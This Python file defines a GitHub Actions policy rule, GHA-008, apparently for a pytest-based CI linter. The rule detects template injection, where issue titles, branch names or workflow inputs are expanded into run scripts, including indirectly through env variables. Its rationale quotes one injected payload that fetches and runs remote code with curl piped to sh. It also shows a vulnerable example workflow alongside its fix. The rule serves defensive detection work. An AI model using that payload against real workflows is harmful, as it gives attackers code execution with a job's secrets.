"""GHA-008: no attacker-controlled ``${{ }}`` expansion inside scripts."""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from typing import Any

from pytest_devops_policy.api import PathPart, Severity, Violation, policy
from pytest_devops_policy.context import Context
from pytest_devops_policy.formats.github_actions.expressions import (
    Expression,
    find_expressions,
    normalize_context,
)
from pytest_devops_policy.formats.github_actions.workflow import Job, Step, Workflow
from pytest_devops_policy.knowledge.ci.taint import (
    INPUTS,
    TAINTED,
    context_matches,
    flows,
    input_is_typed_safe,
)
from pytest_devops_policy.options import GhaOptions

Sink = tuple[str, str, tuple[PathPart, ...]]


def _sinks(step: Step) -> list[Sink]:
    out: list[Sink] = []
    if step.run is not None:
        out.append(("run", step.run, step.path("run")))
    uses = step.uses
    if uses is not None and uses.is_remote and uses.name.lower() == "actions/github-script":
        script = step.with_.get("script")
        if isinstance(script, str):
            out.append(("with.script", script, step.path("with", "script")))
    return out


def _taint(
    ctx: str, workflow: Workflow, extra: Sequence[str]
) -> tuple[str, Severity | None] | None:
    """(what makes ``ctx`` dangerous, severity override) or ``None`` if it is not tainted."""
    for pattern in (*TAINTED, *extra):
        if context_matches(ctx, pattern):
            return "attacker-controlled", None
    for pattern in INPUTS:
        if context_matches(ctx, pattern) and not input_is_typed_safe(workflow, ctx):
            return "a workflow input, set by whoever triggers the run", Severity.MEDIUM
    return None


def _env_lookup(job: Job, step: Step, name: str) -> tuple[str, Any] | None:
    """The ``env`` entry a step sees for ``name``: step > job > workflow, case-insensitive."""
    for env in (step.env, job.env, job.workflow.env):
        for key, value in env.items():
            if str(key).lower() == name:
                return str(key), value
    return None


def _extra_patterns(contexts: tuple[str, ...]) -> tuple[str, ...]:
    return tuple(normalize_context(c) for c in contexts)


def _findings(
    job: Job, step: Step, expr: Expression, extra: Sequence[str]
) -> Iterator[tuple[str, str, Severity | None]]:
    """(context, what reaches the script, severity) for each dangerous context it outputs."""
    workflow = job.workflow
    for ctx in flows(expr):
        hit = _taint(ctx, workflow, extra)
        if hit is not None:
            yield ctx, f"{ctx} ({hit[0]})", hit[1]
            continue
        parts = ctx.split(".")
        if parts[0] != "env" or len(parts) != 2:
            continue
        # ${{ env.X }} re-expands X's value into the script, so X's taint carries over.
        entry = _env_lookup(job, step, parts[1])
        if entry is None or not isinstance(entry[1], str):
            continue
        for inner in find_expressions(entry[1]):
            for source in flows(inner):
                hit = _taint(source, workflow, extra)
                if hit is not None:
                    yield ctx, f"env.{entry[0]}, set from {source} ({hit[0]}),", hit[1]


@policy(
    id="GHA-008",
    name="no-template-injection",
    title="No attacker-controlled expressions in scripts",
    severity=Severity.CRITICAL,
    rationale=(
        "GitHub substitutes ${{ }} expressions into the script text before the shell "
        'runs it. An issue title or branch name such as a"; curl evil.sh | sh; " '
        "becomes code running with the job's token and secrets."
    ),
    remediation=(
        "Pass the value through an environment variable (env: TITLE: ${{ "
        'github.event.issue.title }}) and use it quoted in the script ("$TITLE"); in '
        "actions/github-script read it from process.env."
    ),
    controls=("CWE-78", "NIST-800-53-SI-10", "OpenSSF-Scorecard-Dangerous-Workflow"),
    references=(
        "checkov:CKV_GHA_2",
        "zizmor:template-injection",
        "actionlint:expression",
        "scorecard:Dangerous-Workflow",
    ),
    example=(
        "on: issues\n"
        "jobs:\n"
        "  triage:\n"
        "    runs-on: ubuntu-latest\n"
        "    steps:\n"
        '      - run: echo "${{ github.event.issue.title }}"\n'
    ),
    use_instead=(
        "on: issues\n"
        "jobs:\n"
        "  triage:\n"
        "    runs-on: ubuntu-latest\n"
        "    steps:\n"
        "      - env:\n"
        "          TITLE: ${{ github.event.issue.title }}\n"
        '        run: echo "$TITLE"\n'
    ),
)
def no_template_injection(job: Job, context: Context) -> Iterator[Violation]:
    extra = _extra_patterns(context.options(GhaOptions).tainted_contexts)
    for step in job.steps:
        for field, text, path in _sinks(step):
            fix = "read it from process.env" if field == "with.script" else 'use "$VAR"'
            seen: set[str] = set()
            for expr in find_expressions(text):
                for ctx, what, severity in _findings(job, step, expr, extra):
                    if ctx in seen:
                        continue
                    seen.add(ctx)
                    yield Violation(
                        f"{step.label} {field}: '{expr.text}' pastes {what} into the "
                        f"script text; pass it through env: and {fix}",
                        path=path,
                        severity=severity,
                    )
